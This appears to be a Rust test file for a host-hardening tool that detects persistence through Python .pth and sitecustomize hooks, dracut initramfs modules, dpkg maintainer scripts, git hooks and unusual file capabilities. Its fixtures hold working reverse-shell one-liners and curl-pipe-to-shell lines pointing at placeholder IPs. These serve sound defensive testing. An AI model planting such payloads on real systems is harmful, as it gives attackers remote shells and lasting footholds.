        ("/usr/local/bin/node", "cap_net_bind_service+ep"),
        ("/tmp/.x/python3", "cap_setuid+ep"),
        ("/home/alice/sniff", "cap_net_raw,cap_net_admin+ep"),
        ("/home/alice/notes.txt", "cap_setuid+ep"),
    ];
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Files, Check::Persistence];
    let audit = || {
        let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
        assert!(out.errors.is_empty(), "{:?}", out.errors);
        out.findings
            .into_iter()
            .filter(|f| f.id.contains("capability"))
            .collect::<Vec<Finding>>()
    };
    if let Err(e) = stock
        .iter()
        .chain(planted)
        .try_for_each(|(f, c)| setcap(r, f, c))
    {
        eprintln!("note: cannot set file capabilities here ({e}; needs root or CAP_SETFCAP): checking only that nothing fires");
        assert!(audit().is_empty());
        return;
    }
    let found = audit();
    let mut got: Vec<(&str, &str, Severity)> = found
        .iter()
        .map(|f| (f.id.as_str(), f.subject.as_str(), f.severity))
        .collect();
    got.sort_unstable();
    assert_eq!(
        got,
        vec![
            (
                "files.capability-unusual-location",
                "/home/alice/sniff",
                Severity::High
            ),
            (
                "files.capability-unusual-location",
                "/tmp/.x/python3",
                Severity::Critical
            ),
            (
                "persistence.interpreter-capability",
                "/usr/bin/perl",
                Severity::Critical
            ),
            (
                "persistence.interpreter-capability",
                "/usr/bin/python3.11",
                Severity::Critical
            ),
            (
                "persistence.interpreter-capability",
                "/usr/bin/vim.basic",
                Severity::Critical
            ),
        ],
        "{found:#?}"
    );
    // Each excerpt is getcap's own text for the file.
    for f in &found {
        let host = r.join(f.subject.trim_start_matches('/'));
        let out = std::process::Command::new("getcap")
            .arg(&host)
            .output()
            .unwrap();
        let line = String::from_utf8(out.stdout).unwrap();
        let text = line
            .trim_end()
            .strip_prefix(host.to_str().unwrap())
            .unwrap()
            .trim_start();
        assert_eq!(
            f.evidence[0].excerpt.as_deref(),
            Some(format!("security.capability: {text}").as_str()),
            "{}",
            f.subject
        );
        assert!(f.attack.iter().any(|a| a == "T1548.001"));
    }
}

// ---------------------------------------------------------------------------------------------
// Python start-up hooks, initramfs modules, maintainer scripts, git hooks.

fn ids(f: &[Finding]) -> Vec<(String, String, Severity)> {
    f.iter()
        .map(|x| (x.id.clone(), x.subject.clone(), x.severity))
        .collect()
}

/// A dpkg database holding one package `name` owning `files` (path, content as shipped).
fn dpkg_package(root: &Path, name: &str, files: &[(&str, &str)]) {
    use md5::Digest as _;
    use std::fmt::Write as _;
    let status = root.join("var/lib/dpkg/status");
    let mut all = std::fs::read_to_string(&status).unwrap_or_default();
    let _ = write!(
        all,
        "Package: {name}
Status: install ok installed
Version: 1
Architecture: all

"
    );
    w(root, "/var/lib/dpkg/status", &all);
    let mut list = String::new();
    let mut sums = String::new();
    for (p, c) in files {
        list.push_str(p);
        list.push('\n');
        let d = md5::Md5::digest(c.as_bytes());
        let hex = d.iter().fold(String::new(), |mut h, b| {
            let _ = write!(h, "{b:02x}");
            h
        });
        let _ = writeln!(sums, "{hex}  {}", p.trim_start_matches('/'));
    }
    w(root, &format!("/var/lib/dpkg/info/{name}.list"), &list);
    w(root, &format!("/var/lib/dpkg/info/{name}.md5sums"), &sums);
}

const DISTUTILS_PTH: &str = "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n";
const DRACUT_STOCK: &str = "#!/bin/bash\n# called by dracut\ncheck() {\n    require_binaries sed grep || return 1\n    return 255\n}\ninstall() {\n    inst_hook cmdline 10 \"$moddir/parse-root-opts.sh\"\n}\n";

#[test]
fn startup_hooks_planted_and_stock() {
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    accounts(r);
    // stock: setuptools' distutils-precedence.pth, a namespace package, virtualenv, pip
    // editable install; a packaged dracut module as shipped; sample git hooks
    w(
        r,
        "/usr/lib/python3/dist-packages/distutils-precedence.pth",
        DISTUTILS_PTH,
    );
    w(r, "/usr/lib/python3/dist-packages/zope.interface-5.5.2-nspkg.pth", "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('zope', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('zope', [os.path.dirname(p)])));m = m or sys.modules.setdefault('zope', types.ModuleType('zope'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n");
    w(
        r,
        "/home/alice/.local/lib/python3.11/site-packages/_virtualenv.pth",
        "import _virtualenv",
    );
    w(
        r,
        "/home/alice/.local/lib/python3.11/site-packages/paths.pth",
        "/home/alice/src/lib\n../other\n",
    );
    w(
        r,
        "/usr/lib/dracut/modules.d/95rootfs-block/module-setup.sh",
        DRACUT_STOCK,
    );
    w(
        r,
        "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
        DRACUT_STOCK,
    );
    dpkg_package(
        r,
        "dracut-core",
        &[
            (
                "/usr/lib/dracut/modules.d/95rootfs-block/module-setup.sh",
                DRACUT_STOCK,
            ),
            (
                "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
                "#!/bin/bash\ninstall() { :; }\n",
            ),
        ],
    );
    w(r, "/var/lib/dpkg/info/dracut-core.postinst", "#!/bin/sh\nset -e\nif [ \"$1\" = configure ]; then\n    update-alternatives --install /usr/bin/x x /usr/bin/y 10\n    adduser --system --group --home /var/lib/x x\n    dpkg-statoverride --update --add root x 4750 /usr/bin/y\nfi\n#DEBHELPER#\n");
    w(
        r,
        "/home/alice/proj/.git/hooks/pre-commit.sample",
        &format!("#!/bin/sh\n{REVSHELL}\n"),
    );
    w(r, "/home/alice/proj/.git/hooks/pre-push", "#!/bin/sh\nexec /home/alice/.venv/bin/python3 -mpre_commit hook-impl --hook-type=pre-push\n");
    // planted (PANIX --python-pth style, Elastic's rules, --initramfs, --malicious-package, --git)
    w(r, "/usr/local/lib/python3.11/dist-packages/mpl-init.pth", "# matplotlib\nimport os; os.system('nohup bash -c \"bash -i >& /dev/tcp/10.10.10.10/1337 0>&1\" &')\n");
    w(
        r,
        "/usr/lib/python3/dist-packages/sysmon.pth",
        "import sysmon_hook\n",
    );
    w(
        r,
        "/usr/local/lib/python3.11/dist-packages/shadow.pth",
        "/usr/local/lib/x\n/dev/shm/.pylib\n",
    );
    w(
        r,
        "/usr/lib/python3.11/sitecustomize.py",
        "import os\nos.system('curl -fsSL http://203.0.113.7/x.sh | sh')\n",
    );
    w(r, "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py", "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n");
    w(r, "/usr/lib/dracut/modules.d/99panix/module-setup.sh", "#!/bin/bash\ncheck() { return 0; }\ninstall() {\n    inst_hook pre-pivot 99 \"$moddir/panix.sh\"\n}\n");
    w(
        r,
        "/usr/lib/dracut/modules.d/99panix/panix.sh",
        &format!("#!/bin/sh\n{REVSHELL}\n"),
    );
    w(r, "/var/lib/dpkg/info/panix.postinst", "#!/bin/sh\nset -e\necho '* * * * * root /bin/bash -c \"sh -i >& /dev/tcp/10.0.0.1/1337 0>&1\"' \\\n  > /etc/cron.d/panix\n");
    w(
        r,
        "/home/alice/proj/.git/hooks/pre-commit",
        &format!("#!/bin/sh\n{REVSHELL}\n"),
    );
    w(
        r,
        "/srv/site.git/hooks/post-receive",
        "#!/bin/sh\ncurl -s http://203.0.113.7/p | bash\n",
    );
    std::fs::create_dir_all(r.join("srv/site.git/objects")).unwrap();

    let f = run(r);
    let got = ids(&f);
    let want: &[(&str, &str, Severity)] = &[
        (
            "persistence.python-pth",
            "/usr/local/lib/python3.11/dist-packages/mpl-init.pth",
            Severity::Critical,
        ),
        (
            "persistence.python-pth",
            "/usr/lib/python3/dist-packages/sysmon.pth",
            Severity::Medium,
        ),
        (
            "persistence.python-pth",
            "/usr/local/lib/python3.11/dist-packages/shadow.pth",
            Severity::High,
        ),
        (
            "persistence.python-customize",
            "/usr/lib/python3.11/sitecustomize.py",
            Severity::Critical,
        ),
        (
            "persistence.python-customize",
            "/home/alice/.local/lib/python3.11/site-packages/usercustomize.py",
            Severity::Critical,
        ),
        (
            "persistence.initramfs-module",
            "/usr/lib/dracut/modules.d/99panix/module-setup.sh",
            Severity::Medium,
        ),
        (
            "persistence.initramfs-module",
            "/usr/lib/dracut/modules.d/99panix/panix.sh",
            Severity::Critical,
        ),
        (
            "persistence.initramfs-module",
            "/usr/lib/dracut/modules.d/90changed/module-setup.sh",
            Severity::High,
        ),
        (
            "persistence.package-script",
            "/var/lib/dpkg/info/panix.postinst",
            Severity::Critical,
        ),
        (
            "persistence.git-hook",
            "/home/alice/proj/.git/hooks/pre-commit",
            Severity::Critical,
        ),
        (
            "persistence.git-hook",
            "/srv/site.git/hooks/post-receive",
            Severity::Critical,
        ),
    ];
    for (id, subject, sev) in want {
        assert!(
            got.iter()
                .any(|(i, s, v)| i == id && s == subject && v == sev),
            "missing {id} {subject} {sev:?} in {got:#?}"
        );
    }
    let startup: Vec<_> = got
        .iter()
        .filter(|(i, _, _)| {
            ["python-", "initramfs", "package-script", "git-hook"]
                .iter()
                .any(|p| i.contains(p))
        })
        .collect();
    assert_eq!(startup.len(), want.len(), "unexpected: {startup:#?}");
    // evidence: file and line; ATT&CK
    let pth = f
        .iter()
        .find(|x| x.id == "persistence.python-pth" && x.severity == Severity::Critical)
        .unwrap();
    assert_eq!(pth.evidence[0].line, Some(2));
    assert!(pth.attack.iter().any(|a| a == "T1546.018"));
    let pkg = f
        .iter()
        .find(|x| x.id == "persistence.package-script")
        .unwrap();
    assert_eq!(pkg.evidence[0].line, Some(3));
    assert!(pkg.attack.iter().any(|a| a == "T1546.016"));
    assert!(f
        .iter()
        .find(|x| x.id == "persistence.initramfs-module")
        .unwrap()
        .attack
        .iter()
        .any(|a| a == "T1542"));
}

/// The stock start-up hooks and maintainer scripts of Debian 12's real packages (downloaded
/// by the test; skipped with a printed reason offline): setuptools' distutils-precedence.pth,
/// zope.interface's namespace .pth, virtualenv, dracut's modules, and their maintainer
/// scripts, installed into a root with their dpkg records, give no finding of this module.
#[test]
fn real_debian_packages_are_quiet() {
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("startup-debs");
    let names = [
        "python3-setuptools",
        "python3-zope.interface",
        "python3-virtualenv",
        "python3-coverage",
        "dracut-core",
        "initramfs-tools-core",
        "openssh-server",
        "cron",
        "git",
    ];
    let debs = ferret_testkit::debs::fetch(&cache, &names);
    if debs.is_empty() {
        eprintln!("skipped: no Debian package could be had");
        return;
    }
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    accounts(r);
    let mut installed = 0;
    for (n, deb) in &debs {
        installed += usize::from(ferret_testkit::debs::install(r, n, deb));
    }
    assert!(installed > 0);
    let pth = std::fs::read_dir(r.join("usr/lib/python3/dist-packages")).map_or(0, |d| {
        d.filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().ends_with(".pth"))
            .count()
    });
    eprintln!("{installed} packages installed, {pth} .pth files");
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Persistence];
    let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
    let noisy: Vec<_> = ids(&out.findings)
        .into_iter()
        .filter(|(i, _, _)| {
            ["python-", "initramfs", "package-script", "git-hook"]
                .iter()
                .any(|p| i.contains(p))
        })
        .collect();
    assert!(noisy.is_empty(), "{noisy:#?}");
    // the same .pth planted unpackaged elsewhere is still quiet (stock form), a changed one not
    if pth > 0 {
        let p = r.join("usr/lib/python3/dist-packages/distutils-precedence.pth");
        if p.exists() {
            std::fs::write(&p, "import os; os.system('id')\n").unwrap();
            let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
            assert!(
                out.findings
                    .iter()
                    .any(|f| f.id == "persistence.python-pth" && f.severity == Severity::High),
                "{:#?}",
                ids(&out.findings)
            );
        }
    }
}

/// This machine's maintainer scripts (`/var/lib/dpkg/info`, copied into a fixture root): all
/// stock, so no `persistence.package-script`. Prints the count and the time taken.
#[test]
fn this_machines_maintainer_scripts_are_quiet() {
    let Ok(dir) = std::fs::read_dir("/var/lib/dpkg/info") else {
        eprintln!("skipped: no /var/lib/dpkg/info on this machine");
        return;
    };
    let t = tempfile::tempdir().unwrap();
    let info = t.path().join("var/lib/dpkg/info");
    std::fs::create_dir_all(&info).unwrap();
    let mut n = 0;
    for e in dir.filter_map(Result::ok) {
        let name = e.file_name().to_string_lossy().into_owned();
        if [".preinst", ".postinst", ".prerm", ".postrm"]
            .iter()
            .any(|s| name.ends_with(s))
            && std::fs::copy(e.path(), info.join(&name)).is_ok()
        {
            n += 1;
        }
    }
    assert!(n > 0, "no maintainer script could be read");
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Persistence];
    let start = std::time::Instant::now();
    let out = audit_root(&HostRoot::new(t.path()).unwrap(), &o, &Control::new());
    eprintln!(
        "{n} maintainer scripts read in {:?} (wall clock, debug build, under load)",
        start.elapsed()
    );
    let noisy: Vec<_> = out
        .findings
        .iter()
        .filter(|f| f.id == "persistence.package-script")
        .map(|f| (&f.subject, &f.evidence))
        .collect();
    assert!(noisy.is_empty(), "{noisy:#?}");
}

/// Real rpm databases (go-rpmdb's CentOS-family Berkeley DB, CBL-Mariner SQLite, SLE NDB):
/// their scriptlets are read and none is reported.
#[test]
#[cfg_attr(not(ferret_testdata), ignore = "needs FERRET_TESTDATA (go-rpmdb)")]
fn real_rpm_scriptlets_are_quiet() {
    for (src, dst) in [
        ("go-rpmdb/libuuid/Packages", "var/lib/rpm/Packages"),
        (
            "go-rpmdb/cbl-mariner-2.0/rpmdb.sqlite",
            "var/lib/rpm/rpmdb.sqlite",
        ),
        (
            "go-rpmdb/sle15-bci/Packages.db",
            "usr/lib/sysimage/rpm/Packages.db",
        ),
    ] {
        let t = tempfile::tempdir().unwrap();
        w(
            t.path(),
            dst,
            &std::fs::read(ferret_testkit::testdata(src)).unwrap(),
        );
        let root = HostRoot::new(t.path()).unwrap();
        let mut ro = ferret_baseline::pkg::rpm::ReadOptions::default();
        ro.scripts = true;
        ro.files = false;
        let db = ferret_baseline::pkg::rpm::read_root(&root, &ro, &Control::new())
            .unwrap()
            .unwrap();
        let scripts: usize = db.packages.iter().map(|p| p.scripts.len()).sum();
        assert!(scripts > 0, "{src}: no scriptlet read");
        let mut o = HardenOptions::default();
        o.checks = vec![Check::Persistence];
        let out = audit_root(&root, &o, &Control::new());
        let noisy: Vec<_> = ids(&out.findings)
            .into_iter()
            .filter(|(i, _, _)| i == "persistence.package-script")
            .collect();
        assert!(noisy.is_empty(), "{src}: {noisy:#?}");
        eprintln!(
            "{src}: {} packages, {scripts} scriptlets, quiet",
            db.packages.len()
        );
    }
}

/// The git hook search is bounded: a repository deeper than `MAX_GIT_DEPTH` below a home is
/// not read, and a tree with more than `MAX_GIT_DIRS` directories is cut short with an error
/// record naming it (the other homes are still searched).
#[test]
fn git_search_is_bounded() {
    use ferret_harden::persistence::{MAX_GIT_DEPTH, MAX_GIT_DIRS};
    let t = tempfile::tempdir().unwrap();
    let r = t.path();
    accounts(r);
    let hook = format!("#!/bin/sh\n{REVSHELL}\n");
    let shallow = format!(
        "/home/alice/{}.git/hooks/post-merge",
        "d/".repeat(MAX_GIT_DEPTH - 1)
    );
    let deep = format!(
        "/home/alice/{}.git/hooks/post-merge",
        "d/".repeat(MAX_GIT_DEPTH + 1)
    );
    w(r, &shallow, &hook);
    w(r, &deep, &hook);
    for i in 0..=MAX_GIT_DIRS {
        std::fs::create_dir_all(r.join(format!("srv/many/{i}"))).unwrap();
    }
    let mut o = HardenOptions::default();
    o.checks = vec![Check::Persistence];
    let out = audit_root(&HostRoot::new(r).unwrap(), &o, &Control::new());
    let hooks: Vec<&str> = out
        .findings
        .iter()
        .filter(|f| f.id == "persistence.git-hook")
        .map(|f| f.subject.as_str())
        .collect();
    assert_eq!(hooks, vec![shallow.as_str()]);
    assert!(
        out.errors
            .iter()
            .any(|e| e.path.as_deref() == Some("/srv") && e.message.contains("stopped")),
        "{:?}",
        out.errors
    );
}
